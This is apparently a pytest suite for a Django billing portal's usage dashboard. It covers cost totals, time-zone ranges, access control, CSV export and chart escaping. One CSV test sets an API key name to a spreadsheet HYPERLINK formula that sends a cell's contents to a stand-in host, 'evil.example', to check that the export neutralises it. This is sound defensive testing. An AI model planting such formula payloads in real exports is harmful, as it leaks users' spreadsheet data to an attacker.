import csv
import io
import zoneinfo
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest
from django.db.models import Sum
from django.http import StreamingHttpResponse
from django.template import Context, Template
from django.test import RequestFactory
from django.urls import reverse
from django.utils import timezone

from billing.ledger import post_entry
from billing.models import LedgerEntry, LedgerKind
from portal.middleware import TIMEZONE_COOKIE
from portal.money import from_micros, to_micros
from tests.factories import ApiKeyFactory
from tests.seeded_tiers import ensure_seeded_tiers
from tests.usage_calls import record_call
from usage.queries import usage_by_model, usage_report
from usage.ranges import parse_usage_query

# The group's calls happen "today" in UTC: fixed moments keep the tests exact.
NOW = timezone.now().replace(minute=30, second=0, microsecond=0)


@pytest.fixture
def keys(group):
    post_entry(group.pk, LedgerKind.GRANT, to_micros("100"))
    return ApiKeyFactory(group=group, name="backend"), ApiKeyFactory(
        group=group, name="batch"
    )


@pytest.fixture
def calls(keys):
    backend, batch = keys
    record_call(backend, "sonar-pro", at=NOW)  # $0.0205
    record_call(backend, "sonar", at=NOW - timedelta(days=1))  # $0.0095
    record_call(batch, "sonar-pro", at=NOW - timedelta(days=3))
    record_call(
        batch,
        "sonar-deep-research",
        at=NOW - timedelta(days=3),
        search_queries=12,
        context="low",
    )
    record_call(batch, "sonar", at=NOW - timedelta(days=45))  # outside 30 days
    return keys


def _url(group, name="usage:dashboard", **params):
    url = reverse(name, args=[group.slug])
    query = "&".join(f"{k}={v}" for k, v in params.items())
    return f"{url}?{query}" if query else url


def _ledger_usage(group, start, end, **filters):
    total = LedgerEntry.objects.filter(
        group=group,
        kind=LedgerKind.USAGE,
        created_at__gte=start,
        created_at__lt=end,
        **filters,
    ).aggregate(s=Sum("amount_micros"))
    return -(total["s"] or 0)


def test_member_sees_usage_by_model_and_key(member_client, group, calls):
    response = member_client.get(_url(group, range="30d"))
    assert response.status_code == 200
    report = response.context["report"]
    assert report.total.requests == 4
    assert {row.model for row in report.by_model} == {
        "sonar",
        "sonar-pro",
        "sonar-deep-research",
    }
    assert [row.name for row in report.by_key] == ["batch", "backend"]
    content = response.content.decode()
    assert "backend" in content and calls[0].last_four in content
    assert "<svg" in content and 'id="calls-table"' in content


def test_admin_sees_the_usage_page(admin_client, group, calls):
    assert admin_client.get(_url(group)).status_code == 200


def test_outsider_gets_not_found(outsider_client, group, calls):
    assert outsider_client.get(_url(group)).status_code == 404
    assert outsider_client.get(_url(group, "usage:export")).status_code == 404


def test_usage_total_and_rows_show_cost_exact_to_the_micro_dollar(
    member_client, group, keys
):
    backend, batch = keys
    # 7 input tokens, 1 output token, low context: 7 + 1 + 5,000 micros each.
    record_call(
        backend, "sonar", at=NOW, input_tokens=7, output_tokens=1, context="low"
    )
    record_call(batch, "sonar", at=NOW, input_tokens=7, output_tokens=1, context="low")
    html = member_client.get(_url(group)).content.decode()
    assert 'id="total-cost">$0.010016<' in html
    assert "$0.005008" in html  # each key's row


def test_totals_agree_with_the_ledger_to_the_micro(member_client, group, calls):
    for preset in ("today", "7d", "30d", "this_month"):
        response = member_client.get(_url(group, range=preset))
        query = response.context["query"]
        report = response.context["report"]
        expected = _ledger_usage(group, query.start, query.end)
        assert report.total.cost_micros == expected, preset
        assert sum(r.figures.cost_micros for r in report.by_key) == expected
        assert sum(b.total_cost_micros for b in report.series) == expected


def test_totals_agree_with_the_ledger_over_a_long_custom_range(group, keys):
    backend, batch = keys
    start = datetime(2026, 1, 1, tzinfo=UTC)
    for hour in range(0, 24 * 40, 7):
        record_call(backend if hour % 2 else batch, at=start + timedelta(hours=hour))
    with timezone.override(zoneinfo.ZoneInfo("America/Los_Angeles")):
        query = parse_usage_query(
            {"range": "custom", "start": "2026-01-03", "end": "2026-02-05"}
        )
        report = usage_report(group.pk, query)
    expected = _ledger_usage(group, query.start, query.end)
    assert expected > 0
    # The key breakdown mixes whole UTC days and edge hours; it must still agree.
    assert sum(r.figures.cost_micros for r in report.by_key) == expected
    assert report.total.cost_micros == expected
    assert sum(b.total_cost_micros for b in report.series) == expected
    assert len(report.series) == 34


def test_whole_utc_days_are_read_without_an_edge_query(
    group, keys, django_assert_num_queries
):
    backend, _ = keys
    # In Kolkata (UTC+05:30) the range runs from 18:00 UTC on Jan 2 to 18:00 on Jan 5.
    for at in ("01-02T23:30", "01-03T00:30", "01-05T12:00", "01-05T23:30"):
        record_call(backend, at=datetime.fromisoformat(f"2026-{at}+00:00"))
    params = {"range": "custom", "start": "2026-01-03", "end": "2026-01-05"}

    with timezone.override(UTC):
        query = parse_usage_query(params)
    with django_assert_num_queries(2):  # the chart and the whole days
        report = usage_report(group.pk, query, keys)
    assert report.total.cost_micros == _ledger_usage(group, query.start, query.end)
    assert report.total.requests == 3

    with timezone.override(zoneinfo.ZoneInfo("Asia/Kolkata")):
        query = parse_usage_query(params)
    with django_assert_num_queries(3):  # and the partial days at both edges
        report = usage_report(group.pk, query, keys)
    assert report.total.cost_micros == _ledger_usage(group, query.start, query.end)
    assert report.total.requests == 3


@pytest.mark.parametrize("zone", ["UTC", "America/Los_Angeles", "Asia/Kolkata"])
def test_model_breakdown_agrees_with_the_model_rollup(group, keys, zone):
    backend, batch = keys
    models = ("sonar", "sonar-pro", "sonar-deep-research")
    start = datetime(2026, 1, 1, tzinfo=UTC)
    for hour in range(0, 24 * 9, 5):
        key = backend if hour % 2 else batch
        record_call(key, models[hour % 3], at=start + timedelta(hours=hour))

    # The page sums its model breakdown from the key rollups; the per-model
    # hourly rollup, which the overview reads, must give the same figures.
    with timezone.override(zoneinfo.ZoneInfo(zone)):
        for filters in ({}, {"model": "sonar"}, {"key": str(batch.pk)}):
            query = parse_usage_query(
                {"range": "custom", "start": "2026-01-02", "end": "2026-01-07"}
                | filters
            )
            by_model = usage_report(group.pk, query).by_model
            assert by_model, filters
            assert by_model == usage_by_model(group.pk, query), filters


def test_ranges_are_read_in_the_users_time_zone(member_client, group, keys):
    backend, _ = keys
    # 02:00 UTC on July 2nd is still July 1st in New York.
    record_call(backend, at=datetime(2026, 7, 2, 2, tzinfo=UTC))
    params = {"range": "custom", "start": "2026-07-01", "end": "2026-07-01"}
    member_client.cookies[TIMEZONE_COOKIE] = "America/New_York"
    in_new_york = member_client.get(_url(group, **params)).context["report"]
    member_client.cookies[TIMEZONE_COOKIE] = "UTC"
    in_utc = member_client.get(_url(group, **params)).context["report"]
    assert in_new_york.total.requests == 1
    assert in_utc.total.requests == 0


def test_hourly_chart_for_today_and_daily_for_longer(member_client, group, calls):
    today = member_client.get(_url(group, range="today")).context["report"]
    assert len(today.series) == 24
    assert sum(b.total_requests for b in today.series) == 1
    week = member_client.get(_url(group, range="7d")).context["report"]
    assert len(week.series) == 7
    assert [b.total_requests for b in week.series][-4:] == [2, 0, 1, 1]


def test_filter_by_key_shows_only_that_keys_calls(member_client, group, calls):
    backend, _ = calls
    report = member_client.get(_url(group, key=backend.pk)).context["report"]
    assert report.total.requests == 2
    assert [row.name for row in report.by_key] == ["backend"]
    assert report.total.cost_micros == _ledger_usage(
        group,
        datetime(2000, 1, 1, tzinfo=UTC),
        NOW + timedelta(days=1),
        usage_event__api_key=backend,
    )


def test_filter_by_model(member_client, group, calls):
    response = member_client.get(_url(group, model="sonar-pro"))
    report = response.context["report"]
    assert report.total.requests == 2
    assert report.models == ["sonar-pro"]
    # The other models stay in the filter, to switch without clearing it first.
    choices = [value for value, _ in response.context["form"].fields["model"].choices]
    assert choices == ["", "sonar", "sonar-deep-research", "sonar-pro"]


def test_key_of_another_group_is_refused(member_client, group, calls):
    stranger = ApiKeyFactory()
    response = member_client.get(_url(group, key=stranger.pk))
    assert response.status_code == 400
    assert "not a key of this group" in response.content.decode()


def test_bad_dates_get_a_clear_message(member_client, group, calls):
    response = member_client.get(
        _url(group, range="custom", start="2026-02-30", end="2026-03-01")
    )
    assert response.status_code == 400
    assert "is not a date like 2026-01-31" in response.content.decode()


def _field_block(html: str, field: str) -> str:
    return html.split(f'for="id_{field}"')[1].split('<div class="field')[0]


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"range": "fortnight"}, "range", "Unknown range"),
        ({"key": "abc"}, "key", "not a key of this group"),
        ({"key": "999999"}, "key", "not a key of this group"),
    ],
)
def test_bad_parameter_shows_one_message_next_to_its_field(
    member_client, group, calls, params, field, message
):
    response = member_client.get(_url(group, **params))
    html = response.content.decode()
    assert response.status_code == 400
    assert message in _field_block(html, field)
    assert "Select a valid choice" not in html
    assert html.count('class="error"') == 1


def test_unknown_model_is_a_400_next_to_the_model_field(member_client, group, calls):
    response = member_client.get(_url(group, model="nope"))
    html = response.content.decode()
    assert response.status_code == 400
    assert "no usage of a model named &#x27;nope&#x27;" in _field_block(html, "model")
    assert html.count('class="error"') == 1
    export = member_client.get(_url(group, "usage:export", model="nope"))
    assert export.status_code == 400


def test_dates_without_the_custom_range_are_a_400_next_to_the_field(
    member_client, group, calls
):
    response = member_client.get(_url(group, range="7d", start="2026-01-01"))
    html = response.content.decode()
    assert response.status_code == 400
    assert "Dates apply to a custom range only" in _field_block(html, "start")
    assert member_client.get(_url(group, end="2026-01-01")).status_code == 400


def test_error_page_without_a_range_shows_the_default_range(
    member_client, group, calls
):
    response = member_client.get(_url(group, end="2026-01-01"))
    assert response.status_code == 400
    assert '<option value="30d" selected>' in _field_block(
        response.content.decode(), "range"
    )


def test_new_group_is_told_how_to_make_its_first_call(member_client, group, settings):
    response = member_client.get(_url(group))
    content = response.content.decode()
    assert response.context["first_call"]
    assert f"{settings.PORTAL_BASE_URL}/v1" in content
    assert "curl" in content and "YOUR_API_KEY" in content


def test_quiet_range_is_not_the_first_call_guide(member_client, group, calls):
    response = member_client.get(
        _url(group, range="custom", start="2020-01-01", end="2020-01-02")
    )
    assert not response.context["first_call"]
    assert "No calls in this range" in response.content.decode()


def _csv_rows(response):
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


def test_csv_export_is_streamed_and_matches_the_page(member_client, group, calls):
    page = member_client.get(_url(group, range="30d")).context["report"]
    response = member_client.get(_url(group, "usage:export", range="30d"))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = _csv_rows(response)

    by_model = {r["model"]: r for r in rows if r["section"] == "model"}
    assert set(by_model) == {row.model for row in page.by_model}
    for row in page.by_model:
        assert int(by_model[row.model]["calls"]) == row.figures.requests
        assert Decimal(by_model[row.model]["cost"]) == from_micros(
            row.figures.cost_micros
        )
    keys = [(r["key_name"], r["key_last_four"]) for r in rows if r["section"] == "key"]
    assert keys == [(row.name, row.last_four) for row in page.by_key]
    total = next(r for r in rows if r["section"] == "total")
    assert Decimal(total["cost"]) == from_micros(page.total.cost_micros)
    periods = [r for r in rows if r["section"] == "period"]
    assert sum(int(r["calls"]) for r in periods) == page.total.requests


def test_csv_export_follows_the_filters(member_client, group, calls):
    _, batch = calls
    rows = _csv_rows(member_client.get(_url(group, "usage:export", key=batch.pk)))
    assert {r["key_name"] for r in rows if r["section"] == "key"} == {"batch"}


def test_csv_export_never_hands_a_spreadsheet_a_formula(member_client, group, keys):
    backend, _ = keys
    backend.name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    backend.save(update_fields=["name"])
    record_call(backend, "sonar", at=NOW)
    rows = _csv_rows(member_client.get(_url(group, "usage:export", range="30d")))
    (key_row,) = [r for r in rows if r["section"] == "key"]
    assert key_row["key_name"] == "'" + backend.name


def test_csv_export_with_bad_dates_says_why(member_client, group):
    response = member_client.get(
        _url(group, "usage:export", range="custom", start="nope", end="2026-01-01")
    )
    assert response.status_code == 400
    assert b"not a date" in response.content


def test_key_usage_panel_shows_one_keys_usage(group, calls, member_user):
    backend, _ = calls
    request = RequestFactory().get("/", {"range": "7d"})
    request.user = member_user
    html = Template('{% include "usage/_key_usage.html" with api_key=key %}').render(
        Context({"request": request, "group": group, "key": backend})
    )
    assert "Usage of this key" in html
    assert "sonar-pro" in html and "sonar" in html
    assert "$0.030000" in html  # 0.0205 + 0.0095
    assert f"key={backend.pk}" in html


def test_chart_axis_steps_are_whole_numbers():
    from usage.charts import _nice_ceiling

    assert [_nice_ceiling(v) for v in (0, 2, 4, 5, 9, 1234)] == [4, 4, 4, 8, 20, 2000]


def test_chart_escapes_what_it_draws(group, keys):
    from usage.charts import chart_svg, stacked_chart
    from usage.queries import Bucket

    bucket = Bucket(NOW, "<b>today</b>", {"<script>": 3}, {"<script>": 10})
    chart = stacked_chart([bucket], ["<script>"], "requests", str)
    svg = chart_svg(chart, "c", "Calls <per> day")
    assert "<script>" not in svg and "&lt;script&gt;" in svg
    assert "&lt;per&gt;" in svg


def test_overview_shows_usage_and_tier_panels(member_client, group, calls):
    ensure_seeded_tiers()
    response = member_client.get(reverse("groups:overview", args=[group.slug]))
    content = response.content.decode()
    assert 'id="overview-calls">4<' in content
    assert "Tier 0" in content
    assert reverse("usage:dashboard", args=[group.slug]) in content


def test_demo_seed_records_calls_once(group, admin_user):
    from usage import demo
    from usage.models import UsageEvent

    lines = []
    demo.seed(group, admin_user, lines.append)
    assert "no API keys" in lines[-1]
    ApiKeyFactory(group=group)
    demo.seed(group, admin_user, lines.append)
    recorded = UsageEvent.objects.filter(group=group).count()
    assert recorded > 30
    demo.seed(group, admin_user, lines.append)
    assert UsageEvent.objects.filter(group=group).count() == recorded


def _key_page(group, key, **params):
    url = reverse("apikeys:detail", args=[group.slug, key.pk])
    return url + (
        "?" + "&".join(f"{k}={v}" for k, v in params.items()) if params else ""
    )


def test_key_page_shows_the_keys_own_usage_over_the_range(member_client, group, calls):
    backend, batch = calls
    response = member_client.get(_key_page(group, backend, range="7d"))
    assert response.status_code == 200
    content = response.content.decode()
    assert "Usage of this key" in content
    assert "$0.030000" in content  # its two calls: 0.0205 + 0.0095
    assert f"key={backend.pk}" in content
    # The other key's calls are not on this key's page.
    assert (
        "$0.030000" not in member_client.get(_key_page(group, batch)).content.decode()
    )


def test_key_page_with_a_bad_range_says_why(admin_client, group, calls):
    backend, _ = calls
    response = admin_client.get(_key_page(group, backend, range="custom", start="x"))
    assert "is not a date" in response.content.decode()


def test_outsider_cannot_see_a_keys_usage(outsider_client, group, calls):
    backend, _ = calls
    assert outsider_client.get(_key_page(group, backend)).status_code == 404
